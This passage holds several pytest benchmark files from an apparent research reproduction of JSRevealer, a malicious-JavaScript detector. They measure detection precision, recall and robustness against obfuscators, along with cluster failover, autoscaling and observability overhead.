  twelve structural rules plus the one-line ``decode-chain``);
* **dataflow** — the default catalog, where the engine-backed flow
  rules replace the syntactic decode-chain.

Recorded per arm: decisive-hit precision on the benign vendor corpus
(any decisive hit there is a false alarm), decisive recall over the
malicious/obfuscated samples, and analyzer wall-clock.  The gate:

* **no precision regression** — the dataflow arm issues no decisive hit
  on a benign vendor file that the catalog arm kept clean;
* **strict recall win** — the dataflow arm triages
  ``obfuscator_io.js`` (the string-array dispatch idiom) decisively,
  which the syntactic catalog cannot;
* decisive coverage is monotone: every file the catalog arm decided,
  the dataflow arm decides too.

The A/B lands in ``BENCH_analysis_taint.json``.
"""

import json
import pathlib
import time

import pytest

from repro.analysis import Analyzer, default_rules, legacy_rules
from repro.bench import bench_params

REPO_ROOT = pathlib.Path(__file__).resolve().parent.parent
EXAMPLES = REPO_ROOT / "examples"

#: Benign arm of the precision gate: real-library excerpts; a decisive
#: triage hit on any of these skips the classifier on a clean file.
BENIGN = sorted((EXAMPLES / "corpus").glob("vendor_*.js"))
#: Suspicious arm: handcrafted malicious samples + the obfuscated set.
SUSPECT = sorted((EXAMPLES / "corpus").glob("sample_*.js")) + sorted(
    (EXAMPLES / "obfuscated").glob("*.js")
)


def run_arm(rules, paths):
    analyzer = Analyzer(rules=rules)
    rows = {}
    started = time.perf_counter()
    for path in paths:
        report = analyzer.analyze(path.read_text(), name=path.name)
        rows[path.name] = {
            "decisive": report.decisive,
            "score": round(report.score, 4),
            "rules": sorted({f.rule_id for f in report.findings if f.decisive}),
        }
    elapsed_ms = 1000.0 * (time.perf_counter() - started)
    return rows, elapsed_ms


def ab_comparison():
    paths = BENIGN + SUSPECT
    catalog_rows, catalog_ms = run_arm(legacy_rules(), paths)
    dataflow_rows, dataflow_ms = run_arm(default_rules(), paths)

    benign_names = {p.name for p in BENIGN}
    arms = {}
    for arm, rows, elapsed_ms in (
        ("catalog", catalog_rows, catalog_ms),
        ("dataflow", dataflow_rows, dataflow_ms),
    ):
        false_alarms = [n for n in benign_names if rows[n]["decisive"]]
        decided = [n for n, row in rows.items() if row["decisive"] and n not in benign_names]
        arms[arm] = {
            "benign_decisive": sorted(false_alarms),
            "precision": 1.0 - len(false_alarms) / max(1, len(benign_names)),
            "suspect_decisive": sorted(decided),
            "recall": len(decided) / max(1, len(SUSPECT)),
            "elapsed_ms": round(elapsed_ms, 3),
        }
    return {"arms": arms, "files": {"catalog": catalog_rows, "dataflow": dataflow_rows}}


@pytest.mark.table
def test_taint_triage_ab_gate(benchmark):
    result = benchmark.pedantic(ab_comparison, rounds=1, iterations=1)
    arms, files = result["arms"], result["files"]

    print("\nTaint-flow triage A/B — decisive precision/recall per arm")
    for arm, row in arms.items():
        print(
            f"  {arm:9s} precision={row['precision']:.3f} recall={row['recall']:.3f} "
            f"elapsed={row['elapsed_ms']:.1f}ms decisive={row['suspect_decisive']}"
        )

    record = {
        "bench": "analysis_taint_ab",
        "source": "benchmarks/test_analysis_taint_bench.py::test_taint_triage_ab_gate",
        "params": {
            **bench_params(),
            "n_benign": len(BENIGN),
            "n_suspect": len(SUSPECT),
        },
        "arms": arms,
        "files": files,
    }
    (REPO_ROOT / "BENCH_analysis_taint.json").write_text(json.dumps(record, indent=2) + "\n")

    # Gate 1: no precision regression on the clean corpus — the dataflow
    # arm may not flag a benign vendor file the catalog arm kept clean.
    assert set(arms["dataflow"]["benign_decisive"]) <= set(arms["catalog"]["benign_decisive"])
    assert arms["dataflow"]["precision"] >= arms["catalog"]["precision"]

    # Gate 2: decisive coverage is monotone — everything the syntactic
    # catalog decided, the engine decides too (decode-chain is a strict
    # generalization of the one-line rule).
    assert set(arms["catalog"]["suspect_decisive"]) <= set(arms["dataflow"]["suspect_decisive"])

    # Gate 3: the acceptance sample — obfuscator.io's string-array
    # dispatch is decisive only through the interprocedural engine.
    assert "obfuscator_io.js" not in arms["catalog"]["suspect_decisive"]
    assert "obfuscator_io.js" in arms["dataflow"]["suspect_decisive"]
    assert "flow-tainted-dispatch" in files["dataflow"]["obfuscator_io.js"]["rules"]
