"""Extension bench — malware family classification (paper future work).

Not a paper table: Sec. V-A promises a family component as future work;
this bench measures what the JSRevealer feature space delivers for
six-way family attribution at bench scale.
"""

import pytest

from repro.bench import bench_params, default_jsrevealer_config
from repro.core import FamilyClassifier, JSRevealer
from repro.datasets import experiment_split


@pytest.mark.table
def test_extension_family_classification(benchmark):
    params = bench_params()
    split = experiment_split(
        seed=0,
        pretrain_per_class=params["pretrain"],
        train_per_class=params["train"],
        test_per_class=params["test"],
        realistic=True,
    )
    detector = JSRevealer(default_jsrevealer_config())
    detector.pretrain(split.pretrain.sources, split.pretrain.labels)
    detector.fit(split.train.sources, split.train.labels)

    def subset(corpus):
        sources = [s for s, y in zip(corpus.sources, corpus.labels) if y == 1]
        families = [f.split(":")[1] for f, y in zip(corpus.families, corpus.labels) if y == 1]
        return sources, families

    train_sources, train_families = subset(split.train)
    test_sources, test_families = subset(split.test)
    classifier = FamilyClassifier(detector, seed=0).fit(train_sources, train_families)

    predictions = benchmark.pedantic(classifier.predict, args=(test_sources,), rounds=1, iterations=1)
    agreement = sum(p == t for p, t in zip(predictions, test_families)) / len(test_families)

    print(f"\nExtension — family attribution accuracy: {100 * agreement:.1f}% "
          f"({len(classifier.families_)} families, chance = {100 / len(classifier.families_):.1f}%)")
    print(f"{'family':14s} {'precision':>9s} {'recall':>7s} {'support':>8s}")
    for report in classifier.evaluate(test_sources, test_families):
        print(f"{report.family:14s} {report.precision:9.2f} {report.recall:7.2f} {report.support:8d}")

    assert agreement >= 2.0 / len(classifier.families_)  # well above chance
