"""Fleet observability plane overhead — scraping + SLO evaluation vs off.

Not a paper table: this bench gates the fleet observability plane
(DESIGN.md §15).  It boots two clusters side by side — one with the
federation scrape loop disabled (``scrape_interval_s=0``: no scraping,
no snapshot ring, no SLO evaluation) and one scraping at an *aggressive*
cadence (well above the 2 s default, so the gate measures a worst case)
— and alternates measured load passes between them, the same
paired-round discipline as ``test_tracing_overhead``: machine drift
cancels within a round, real overhead would depress every round's
ratio.

The gate: the observed fleet must keep at least 95% of the unobserved
fleet's throughput in the best paired round.  The evidence lands in
``BENCH_obs_overhead.json`` for the CI artifact.
"""

import json
import pathlib

import pytest

from repro.bench import bench_params, format_load_table
from repro.serve import BackgroundCluster, ClusterConfig, RouterConfig, run_load

from .test_serve_bench import cluster_split, saved_model_dir  # noqa: F401 - fixtures

REPO_ROOT = pathlib.Path(__file__).resolve().parent.parent

#: 10x the default cadence — if this costs <5%, the default is free.
SCRAPE_S = 0.2


@pytest.mark.table
def test_obs_overhead(benchmark, saved_model_dir, cluster_split):  # noqa: F811
    sources = cluster_split.test.sources[:16]
    scripts = [(f"<obs:{i}>", source) for i, source in enumerate(sources)]

    def compare():
        off = ClusterConfig(
            model_dir=saved_model_dir, n_shards=2, port=0,
            router=RouterConfig(scrape_interval_s=0.0),
        )
        on = ClusterConfig(
            model_dir=saved_model_dir, n_shards=2, port=0,
            router=RouterConfig(scrape_interval_s=SCRAPE_S),
        )
        with BackgroundCluster(off) as a, BackgroundCluster(on) as b:
            best = {"unobserved": None, "observed": None}
            ratios = []
            for background, _mode in ((a, "unobserved"), (b, "observed")):
                run_load(background.host, background.port, scripts, concurrency=8)  # warm
            for _ in range(5):
                round_rps = {}
                for background, mode in ((a, "unobserved"), (b, "observed")):
                    report = run_load(background.host, background.port, scripts,
                                      concurrency=8, repeats=10)
                    assert report.errors == 0, report.summary()
                    round_rps[mode] = report.throughput_rps
                    if best[mode] is None or report.throughput_rps > best[mode].throughput_rps:
                        best[mode] = report
                ratios.append(round_rps["observed"] / round_rps["unobserved"])
        return best["unobserved"], best["observed"], ratios

    unobserved, observed, ratios = benchmark.pedantic(compare, rounds=1, iterations=1)

    print("\n" + format_load_table(
        {"unobserved": unobserved, f"observed@{SCRAPE_S}s": observed},
        title="Fleet observability overhead — aggressive scrape cadence vs off",
    ))

    # Verdict identity: the plane observes, it must not perturb.
    expected = {r.name: (r.label, r.probability) for r in unobserved.results}
    for result in observed.results:
        assert (result.label, result.probability) == expected[result.name], result.name

    record = {
        "bench": "obs_overhead",
        "source": "benchmarks/test_obs_overhead.py::test_obs_overhead",
        "params": {
            **bench_params(),
            "n_sources": len(sources),
            "concurrency": 8,
            "repeats": 10,
            "scrape_interval_s": SCRAPE_S,
        },
        "throughput_rps": {
            "unobserved": round(unobserved.throughput_rps, 2),
            "observed": round(observed.throughput_rps, 2),
        },
        "latency_p95_ms": {
            "unobserved": round(unobserved.latency_ms(0.95), 2),
            "observed": round(observed.latency_ms(0.95), 2),
        },
        "paired_ratios": [round(r, 3) for r in ratios],
        "best_ratio": round(max(ratios), 3),
        "gate": "max(paired observed/unobserved rps ratios) >= 0.95",
    }
    (REPO_ROOT / "BENCH_obs_overhead.json").write_text(json.dumps(record, indent=2) + "\n")

    assert max(ratios) >= 0.95, (
        f"observability overhead exceeds 5% in every paired round: "
        f"ratios={[f'{r:.3f}' for r in ratios]}"
    )
