"""Figure 7 — average performance over the four obfuscators.

The paper's summary chart: mean accuracy / F1 / FPR / FNR of each detector
across the obfuscated test sets, with JSRevealer's average F1 topping the
comparison.  This bench prints the averaged bars as a table.
"""

import pytest

from repro.bench import DETECTOR_ORDER


@pytest.mark.figure
def test_fig7_average_metrics(comparison, benchmark):
    benchmark.pedantic(lambda: None, rounds=1, iterations=1)

    print("\nFigure 7 — average metrics (%) over the four obfuscators "
          f"(averaged over {comparison.repetitions} repetitions)")
    print(f"{'Detector':14s} {'Acc':>8s} {'F1':>8s} {'FPR':>8s} {'FNR':>8s}")
    rows = {}
    for detector in DETECTOR_ORDER:
        rows[detector] = {
            metric: comparison.average_over_obfuscators(detector, metric)
            for metric in ("accuracy", "f1", "fpr", "fnr")
        }
        r = rows[detector]
        print(f"{detector:14s} {r['accuracy']:8.1f} {r['f1']:8.1f} {r['fpr']:8.1f} {r['fnr']:8.1f}")
    print("paper average F1: cujo 63.2, zozzle 62.5, jast 66.1, jstap 61.9, jsrevealer 84.8")

    # Shape checks: all averages are valid percentages and JSRevealer's
    # average F1 is in the usable band the paper reports.
    for r in rows.values():
        for value in r.values():
            assert 0.0 <= value <= 100.0
    assert rows["jsrevealer"]["f1"] >= 60.0
    # Error rates stay bounded for JSRevealer (paper: within 30% of clean).
    assert rows["jsrevealer"]["fpr"] <= 45.0
    assert rows["jsrevealer"]["fnr"] <= 45.0
