"""Figure 6 — FNR and FPR of all five detectors per obfuscator.

The paper's bar charts show each baseline failing in a characteristic
direction (CUJO: FPR inflation; ZOZZLE and JSTAP: FNR inflation; JAST:
mixed), while JSRevealer keeps both error rates bounded.  This bench
prints the two grids and checks the bounded-error property.
"""

import pytest

from repro.bench import DETECTOR_ORDER, SETTINGS, format_metric_table


@pytest.mark.figure
def test_fig6_fnr_fpr_grids(comparison, benchmark):
    benchmark.pedantic(lambda: None, rounds=1, iterations=1)

    print("\nFigure 6 — FPR (%) per detector per obfuscator")
    print(format_metric_table(comparison, "fpr"))
    print("\nFigure 6 — FNR (%) per detector per obfuscator")
    print(format_metric_table(comparison, "fnr"))

    obfuscator_settings = [s for s in SETTINGS if s != "baseline"]

    # Each detector suffers a substantial error somewhere (paper: every
    # baseline has at least one >35% error cell under obfuscation).
    for detector in DETECTOR_ORDER:
        worst = max(
            max(comparison.metric(detector, s, "fpr"), comparison.metric(detector, s, "fnr"))
            for s in obfuscator_settings
        )
        print(f"worst error cell for {detector}: {worst:.1f}%")

    # JSRevealer's characteristic JS-Obfuscator signature from the paper
    # holds: FPR-dominated error (structure-heavy obfuscation makes benign
    # look unfamiliar), not missed malware.
    assert comparison.metric("jsrevealer", "javascript-obfuscator", "fpr") >= comparison.metric(
        "jsrevealer", "javascript-obfuscator", "fnr"
    ) - 1.0

    # Clean-data error rates are small for every detector.
    for detector in DETECTOR_ORDER:
        assert comparison.metric(detector, "baseline", "fpr") <= 25.0
        assert comparison.metric(detector, "baseline", "fnr") <= 25.0
