"""Table I — dataset composition.

The paper lists five data sources (three malicious, two benign).  Our
substitution maps each source to synthetic generator families (DESIGN.md);
this bench prints the mapping with the paper's original counts and the
bench-scale counts actually generated, and times corpus generation.
"""

import pytest

from repro.datasets import TABLE1_SOURCES, build_corpus


@pytest.mark.table
def test_table1_dataset_composition(benchmark):
    corpus = benchmark(build_corpus, 60, 60, 0)
    assert len(corpus) == 120

    print("\nTable I — dataset composition (paper source -> generator families)")
    print(f"{'Class':10s} {'Source':38s} {'#JS (paper)':>12s}  families")
    for klass, source, count, families in TABLE1_SOURCES:
        print(f"{klass:10s} {source:38s} {count:>12,d}  {', '.join(families)}")

    by_family = {}
    for family in corpus.families:
        by_family[family] = by_family.get(family, 0) + 1
    print("\nBench-scale corpus actually generated:")
    for family in sorted(by_family):
        print(f"  {family:28s} {by_family[family]:4d}")
