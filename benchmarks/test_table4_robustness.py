"""Table IV — JSRevealer per obfuscator, enhanced AST vs regular AST.

The paper's own ablation: JSRevealer with the enhanced AST stays usable on
every obfuscator, while the regular-AST variant shows severe FPR
inflation.  This bench prints both blocks and checks the ablation shape.
"""

import numpy as np
import pytest

from repro.bench import SETTINGS, format_metric_table


@pytest.mark.table
def test_table4_robustness_and_ast_ablation(comparison, benchmark):
    benchmark.pedantic(lambda: None, rounds=1, iterations=1)

    print("\nTable IV — JSRevealer detection per obfuscator (averaged over "
          f"{comparison.repetitions} repetitions)")
    for metric in ("accuracy", "f1", "fpr", "fnr"):
        print(format_metric_table(comparison, metric, detectors=("jsrevealer", "jsrevealer_regular"),
                                  title=f"\n[{metric}]"))

    enhanced = comparison.reports["jsrevealer"]
    regular = comparison.reports["jsrevealer_regular"]

    # Clean-data performance is near-perfect with the enhanced AST.
    assert enhanced["baseline"].f1 >= 90.0
    # Obfuscation degrades but does not destroy the enhanced-AST detector.
    avg_f1 = comparison.average_over_obfuscators("jsrevealer", "f1")
    print(f"\nenhanced-AST average F1 over obfuscators: {avg_f1:.1f} (paper: 84.9)")
    assert avg_f1 >= 60.0

    # Ablation shape: the regular AST loses data-flow information and the
    # paper reports it as strictly worse on average, with inflated FPR.
    regular_avg_f1 = comparison.average_over_obfuscators("jsrevealer_regular", "f1")
    regular_avg_fpr = comparison.average_over_obfuscators("jsrevealer_regular", "fpr")
    enhanced_avg_fpr = comparison.average_over_obfuscators("jsrevealer", "fpr")
    print(f"regular-AST  average F1 over obfuscators: {regular_avg_f1:.1f} (paper: much lower, FPR 61.7)")
    print(f"average FPR: enhanced={enhanced_avg_fpr:.1f}  regular={regular_avg_fpr:.1f}")
    assert regular_avg_f1 <= avg_f1 + 5.0  # regular must not beat enhanced meaningfully

    # Jshaman (variable renaming only) must be the mildest obfuscator for
    # the enhanced-AST detector, as in the paper.
    jshaman_f1 = comparison.metric("jsrevealer", "jshaman", "f1")
    others = [comparison.metric("jsrevealer", s, "f1") for s in SETTINGS if s not in ("baseline", "jshaman")]
    assert jshaman_f1 >= float(np.mean(others)) - 1.0
