"""Replicated shard tier under fire — recorded in BENCH_cluster_replication.json.

Not a paper table: this bench covers the ROADMAP's production-service
direction.  Two claims:

* **replica failover** — with R=2 placement, SIGKILLing a shard in the
  middle of a load run yields **zero failed client requests with client
  retries off**: the router's replica set, not the client's retry loop,
  absorbs the loss (the older BENCH_cluster_scaling kill bench needed
  ``retries=2`` for the same guarantee), and the failovers are visible
  in ``repro_router_failovers_total``.
* **queue-depth autoscaling** — the scaling policy, driven through a
  simulated load wave on a fake clock, grows the fleet under sustained
  pressure, respects cool-down and the hysteresis dead band, and drains
  back to the floor when the wave passes.
"""

import json
import os
import pathlib
import signal
import threading
import time

import pytest

from repro.bench import bench_params, default_jsrevealer_config
from repro.client import ScanClient
from repro.core import JSRevealer, save_detector
from repro.datasets import experiment_split
from repro.serve import (
    SCALE_DOWN,
    SCALE_UP,
    AutoscaleConfig,
    Autoscaler,
    BackgroundCluster,
    ClusterConfig,
    RouterConfig,
    run_load,
)

REPO_ROOT = pathlib.Path(__file__).resolve().parent.parent


@pytest.fixture(scope="module")
def replication_split():
    params = bench_params()
    return experiment_split(
        seed=0,
        pretrain_per_class=params["pretrain"],
        train_per_class=params["train"],
        test_per_class=min(params["test"], 20),
        realistic=True,
    )


@pytest.fixture(scope="module")
def saved_model_dir(replication_split, tmp_path_factory):
    detector = JSRevealer(default_jsrevealer_config())
    detector.pretrain(replication_split.pretrain.sources, replication_split.pretrain.labels)
    detector.fit(replication_split.train.sources, replication_split.train.labels)
    model_dir = tmp_path_factory.mktemp("replication-model") / "model"
    save_detector(detector, model_dir)
    return str(model_dir)


def simulate_autoscale_wave():
    """Drive the autoscaler through a load wave on a fake clock.

    Depth profile: 10s mid-band warm-up (the hysteresis dead band must
    hold the fleet steady), 50s of heavy pressure, then a long idle tail.
    Returns the decision timeline and the fleet-size trajectory.
    """
    clock = {"now": 0.0}
    config = AutoscaleConfig(
        min_shards=1, max_shards=4, up_queue_depth=8.0, down_queue_depth=1.0,
        sustain_s=5.0, cooldown_s=30.0,
    )
    scaler = Autoscaler(config, clock=lambda: clock["now"])

    def depth_at(t):
        if t < 10:
            return 4.0  # inside the dead band: no action allowed
        if t < 60:
            return 20.0  # the wave
        return 0.5  # idle tail

    n = 2
    decisions = []
    trajectory = []
    for tick in range(250):
        clock["now"] = float(tick)
        snapshot = [
            {"shard": f"shard-{i}", "healthy": True, "state": "ready",
             "queue_depth": depth_at(tick)}
            for i in range(n)
        ]
        decision = scaler.observe(snapshot)
        if decision == SCALE_UP:
            n += 1
            decisions.append({"t": tick, "action": "up", "n_shards": n})
        elif decision == SCALE_DOWN:
            n -= 1
            decisions.append({"t": tick, "action": "down", "n_shards": n})
        trajectory.append(n)
    return config, decisions, trajectory


@pytest.mark.table
def test_replica_failover_and_autoscale(benchmark, saved_model_dir, replication_split):
    sources = replication_split.test.sources[:16]
    scripts = [(f"<replica:{i}>", source) for i, source in enumerate(sources)]
    config = ClusterConfig(
        model_dir=saved_model_dir,
        n_shards=2,
        port=0,
        # The verdict cache would absorb the repeat passes and hide the
        # failover path this bench exists to measure.
        router=RouterConfig(verdict_cache_size=0),
    )

    def run():
        with BackgroundCluster(config) as cluster:
            client = ScanClient(cluster.url, retries=0)
            victim = client.healthz()["shards"][0]

            def kill_soon():
                time.sleep(0.3)  # let the load settle in first
                os.kill(victim["pid"], signal.SIGKILL)

            killer = threading.Thread(target=kill_soon, daemon=True)
            killer.start()
            # retries=0 is the whole point: the CLIENT never retries —
            # any surviving request survived because the ROUTER failed
            # it over to the slot's replica.
            report = run_load(
                cluster.host, cluster.port, scripts, concurrency=8, repeats=3, retries=0
            )
            killer.join()
            metrics = client.metrics_text()
            health = client.healthz()
        return report, metrics, health, victim

    report, metrics, health, victim = benchmark.pedantic(run, rounds=1, iterations=1)

    print("\nreplica failover under load: " + report.summary())

    failovers = {
        line.split('reason="', 1)[1].split('"', 1)[0]: int(line.rsplit(" ", 1)[-1])
        for line in metrics.splitlines()
        if line.startswith("repro_router_failovers_total{")
    }
    total_failovers = sum(failovers.values())

    assert report.errors == 0, report.summary()
    assert report.requests == len(scripts) * 3
    assert total_failovers >= 1, "the kill must be visible as replica failovers"
    victim_after = {s["shard"]: s for s in health["shards"]}[victim["shard"]]
    assert victim_after["restarts"] >= 1 or victim_after["pid"] != victim["pid"]

    scale_config, decisions, trajectory = simulate_autoscale_wave()
    ups = [d for d in decisions if d["action"] == "up"]
    downs = [d for d in decisions if d["action"] == "down"]
    assert ups, "sustained pressure must grow the fleet"
    assert downs, "a passed wave must shrink the fleet again"
    assert max(trajectory) <= scale_config.max_shards
    assert min(trajectory) >= scale_config.min_shards
    assert trajectory[-1] == scale_config.min_shards  # drained back to the floor
    assert all(n == 2 for n in trajectory[:10]), "dead band must hold the fleet steady"
    # Cool-down: consecutive actions are at least cooldown_s apart.
    times = [d["t"] for d in decisions]
    assert all(b - a >= scale_config.cooldown_s for a, b in zip(times, times[1:]))

    record = {
        "bench": "cluster_replication",
        "source": "benchmarks/test_cluster_replication.py::test_replica_failover_and_autoscale",
        "cores": len(os.sched_getaffinity(0)),
        "params": {
            **bench_params(),
            "n_sources": len(sources),
            "concurrency": 8,
            "repeats": 3,
            "client_retries": 0,
            "replicas": 2,
        },
        "failover": {
            "requests": report.requests,
            "errors": report.errors,
            "throughput_rps": round(report.throughput_rps, 2),
            "latency_p50_ms": round(report.latency_ms(0.50), 2),
            "latency_p95_ms": round(report.latency_ms(0.95), 2),
            "latency_p99_ms": round(report.latency_ms(0.99), 2),
            "router_failovers_total": total_failovers,
            "router_failovers_by_reason": failovers,
            "victim": victim["shard"],
        },
        "autoscale_simulation": {
            "config": {
                "min_shards": scale_config.min_shards,
                "max_shards": scale_config.max_shards,
                "up_queue_depth": scale_config.up_queue_depth,
                "down_queue_depth": scale_config.down_queue_depth,
                "sustain_s": scale_config.sustain_s,
                "cooldown_s": scale_config.cooldown_s,
            },
            "decisions": decisions,
            "peak_shards": max(trajectory),
            "final_shards": trajectory[-1],
        },
    }
    (REPO_ROOT / "BENCH_cluster_replication.json").write_text(
        json.dumps(record, indent=2) + "\n"
    )
