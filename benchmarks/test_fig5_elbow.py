"""Figure 5 — elbow-method SSE curves for benign and malicious path clusters.

The paper plots SSE against K for Bisecting K-Means on the pooled benign
and malicious path vectors and reads off elbows around 7 (benign) and
4 (malicious).  This bench regenerates both curves on the synthetic
corpus, prints the series, checks convex-decreasing shape, and reports the
detected elbows.
"""

import numpy as np
import pytest

from repro.bench import bench_params, default_jsrevealer_config
from repro.core import JSRevealer, elbow_curve
from repro.datasets import experiment_split


@pytest.fixture(scope="module")
def pooled_vectors():
    params = bench_params()
    split = experiment_split(
        seed=0,
        pretrain_per_class=params["pretrain"],
        train_per_class=params["train"],
        test_per_class=2,
        realistic=True,
    )
    detector = JSRevealer(default_jsrevealer_config())
    detector.pretrain(split.pretrain.sources, split.pretrain.labels)
    pools = {0: [], 1: []}
    for source, label in zip(split.train.sources, split.train.labels):
        vectors, _ = detector.embed_script(detector.extract_paths(source))
        if len(vectors):
            pools[label].append(vectors)
    rng = np.random.default_rng(0)
    out = {}
    for label, chunks in pools.items():
        stacked = np.vstack(chunks)
        if len(stacked) > 2500:
            stacked = stacked[rng.choice(len(stacked), 2500, replace=False)]
        out[label] = stacked
    return out


@pytest.mark.figure
def test_fig5_elbow_curves(pooled_vectors, benchmark):
    ks = list(range(2, 16))
    benign = elbow_curve(pooled_vectors[0], ks, seed=0)
    malicious = benchmark.pedantic(
        elbow_curve, args=(pooled_vectors[1], ks), kwargs={"seed": 0}, rounds=1, iterations=1
    )

    print("\nFigure 5 — SSE vs K (Bisecting K-Means on path vectors)")
    print(f"{'K':>3s} {'SSE benign':>14s} {'SSE malicious':>14s}")
    for i, k in enumerate(ks):
        print(f"{k:>3d} {benign.sse[i]:>14.1f} {malicious.sse[i]:>14.1f}")
    print(f"elbow(benign)={benign.elbow_k}  elbow(malicious)={malicious.elbow_k}")
    print("paper: elbow(benign)≈7, elbow(malicious)≈4")

    # Shape checks: SSE decreases in K for both classes.
    for curve in (benign.sse, malicious.sse):
        assert all(a >= b - 1e-6 for a, b in zip(curve, curve[1:]))
    # Elbows fall in the paper's small-K region.
    assert 2 <= benign.elbow_k <= 10
    assert 2 <= malicious.elbow_k <= 10
