"""Table II — classifier comparison on unobfuscated data.

The paper trains the JSRevealer feature pipeline with five final
classifiers (SVM, logistic regression, decision tree, Gaussian NB, random
forest) on unobfuscated data at the elbow K values and reports
accuracy/F1/FPR/FNR, with random forest best (and chosen for its
interpretability).  This bench reruns that sweep.
"""

import pytest

from repro.bench import bench_params, default_jsrevealer_config
from repro.core import JSRevealer
from repro.datasets import experiment_split
from repro.ml import (
    DecisionTreeClassifier,
    GaussianNB,
    LinearSVC,
    LogisticRegression,
    RandomForestClassifier,
    detection_report,
)

CLASSIFIERS = {
    "svm": lambda: LinearSVC(n_iter=25, random_state=0),
    "logistic": lambda: LogisticRegression(n_iter=800, learning_rate=0.5),
    "decision-tree": lambda: DecisionTreeClassifier(max_depth=8),
    "gaussian-nb": lambda: GaussianNB(),
    "random-forest": lambda: RandomForestClassifier(n_estimators=60, random_state=0),
}


@pytest.mark.table
def test_table2_classifier_comparison(benchmark):
    params = bench_params()
    split = experiment_split(
        seed=0,
        pretrain_per_class=params["pretrain"],
        train_per_class=params["train"],
        test_per_class=params["test"],
        realistic=True,
    )

    # Table II uses the raw elbow K values (7 benign / 4 malicious).
    reports = {}
    detectors = {}
    for name, factory in CLASSIFIERS.items():
        detector = JSRevealer(
            default_jsrevealer_config(k_benign=7, k_malicious=4, classifier_factory=factory)
        )
        detector.pretrain(split.pretrain.sources, split.pretrain.labels)
        detector.fit(split.train.sources, split.train.labels)
        predictions = detector.predict(split.test.sources)
        reports[name] = detection_report(split.test.label_array, predictions)
        detectors[name] = detector

    benchmark.pedantic(
        detectors["random-forest"].predict, args=(split.test.sources[:10],), rounds=1, iterations=1
    )

    print("\nTable II — ML methods on unobfuscated data (K = 7/4)")
    print(f"{'Classifier':16s} {'Acc':>7s} {'F1':>7s} {'FPR':>7s} {'FNR':>7s}")
    for name, report in reports.items():
        print(f"{name:16s} {report.accuracy:7.1f} {report.f1:7.1f} {report.fpr:7.1f} {report.fnr:7.1f}")
    print("paper: all methods similar (96-99% F1), random forest best")

    # Shape: every classifier detects well on clean data; the forest is
    # within a point of the best.
    for name, report in reports.items():
        assert report.f1 >= 75.0, f"{name} unexpectedly weak: {report.f1}"
    best = max(r.f1 for r in reports.values())
    assert reports["random-forest"].f1 >= best - 3.0
