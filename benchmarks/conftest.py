"""Benchmark session configuration.

Each benchmark both *prints* its paper table/figure analog (captured with
``-s`` or in the pytest summary) and times a representative operation via
pytest-benchmark, so ``pytest benchmarks/ --benchmark-only`` exercises the
whole reproduction.
"""

import pytest


def pytest_configure(config):
    config.addinivalue_line("markers", "table: reproduces a paper table")
    config.addinivalue_line("markers", "figure: reproduces a paper figure")


@pytest.fixture(scope="session")
def comparison():
    """The shared five-detector comparison grid (cached across benches)."""
    from repro.bench import run_comparison

    return run_comparison(include_regular_ast=True)
