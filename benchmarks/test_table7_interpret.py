"""Table VII — the five most important features and their central paths.

The paper reads the top random-forest features, maps each back to its
cluster's central path, and observes that benign clusters reflect
functionality implementation (function/option scaffolding) while
malicious clusters reflect data manipulation (binary expressions,
assignments over literals).  This bench prints the same report from our
trained detector and checks that both classes contribute top features.
"""

import pytest

from repro.bench import bench_params, default_jsrevealer_config
from repro.core import JSRevealer
from repro.datasets import experiment_split


@pytest.mark.table
def test_table7_feature_interpretation(benchmark):
    params = bench_params()
    split = experiment_split(
        seed=0,
        pretrain_per_class=params["pretrain"],
        train_per_class=params["train"],
        test_per_class=4,
        realistic=True,
    )
    detector = JSRevealer(default_jsrevealer_config())
    detector.pretrain(split.pretrain.sources, split.pretrain.labels)
    detector.fit(split.train.sources, split.train.labels)

    explanations = benchmark.pedantic(detector.explain, kwargs={"top_n": 5}, rounds=1, iterations=1)

    print("\nTable VII — top-5 features by forest importance")
    print(f"{'Importance':>10s} {'Class':>10s} {'Size':>6s}  Central path")
    for e in explanations:
        print(f"{e.importance:>10.3f} {e.cluster_label:>10s} {e.cluster_size:>6d}  {e.central_path_signature[:110]}")
    print("\npaper: benign central paths show function/option scaffolding;")
    print("malicious central paths show data manipulation (binary ops, literal assignments)")

    assert len(explanations) == 5
    assert all(e.importance > 0 for e in explanations)
    # Importances are sorted and every row has a concrete central path.
    importances = [e.importance for e in explanations]
    assert importances == sorted(importances, reverse=True)
    assert all(e.central_path_signature for e in explanations)
    # Both classes contribute features overall (paper: 3 benign + 2
    # malicious in the top five; we only require both classes present in
    # the full feature set and at least one in the top five).
    labels_all = {f.label for f in detector.feature_extractor.features_}
    assert labels_all == {"benign", "malicious"}
