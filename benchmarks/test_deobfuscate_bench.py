"""Deobfuscation pre-pass A/B gate on an obfuscated corpus.

Not a paper table: this bench gates the PR-7 pre-pass.  Every
`repro.obfuscation` technique obfuscates the labeled test corpus, and
each variant corpus is scanned twice — pass off, pass on.  The recorded
metric is the *detection rate*: the fraction of variants whose verdict
matches the true label (so it counts missed malware and false alarms on
obfuscated benign code alike — the paper's Table IV frames robustness
as exactly this FPR/FNR pair).

The gate:

* the pass never hurts — detection rate with the pass >= without, for
  every technique;
* it strictly helps where it has something to undo — the
  encoding-heavy techniques (string arrays, charcode/unescape
  packing) must improve strictly, at least two of them;
* rename-only obfuscation ties *exactly*: normalization of a script it
  cannot improve returns byte-identical source, so verdicts cannot
  move.

Per-technique deltas land in ``BENCH_deobfuscate_ab.json``.
"""

import json
import pathlib

import pytest

from repro.bench import bench_params
from repro.core import JSRevealer, JSRevealerConfig
from repro.datasets import experiment_split
from repro.deobfuscate import Deobfuscator
from repro.obfuscation import ALL_OBFUSCATORS
from repro.pipeline import BatchScanner

REPO_ROOT = pathlib.Path(__file__).resolve().parent.parent
OBFUSCATOR_SEED = 11


@pytest.fixture(scope="module")
def split():
    return experiment_split(seed=7, pretrain_per_class=8, train_per_class=16, test_per_class=12)


@pytest.fixture(scope="module")
def detector(split):
    det = JSRevealer(JSRevealerConfig(embed_dim=16, pretrain_epochs=3, k_benign=4, k_malicious=4, seed=7))
    det.pretrain(split.pretrain.sources, split.pretrain.labels)
    det.fit(split.train.sources, split.train.labels)
    return det


def detection_rate(report, labels):
    return sum(int(r.malicious) == y for r, y in zip(report.results, labels)) / len(labels)


def ab_comparison(detector, split):
    pairs = list(zip(split.test.sources, split.test.labels))
    plain = BatchScanner(detector)
    passed = BatchScanner(detector, deobfuscate=Deobfuscator())

    techniques = {}
    for name, cls in ALL_OBFUSCATORS.items():
        obfuscator = cls(seed=OBFUSCATOR_SEED)
        variants, labels, failures = [], [], 0
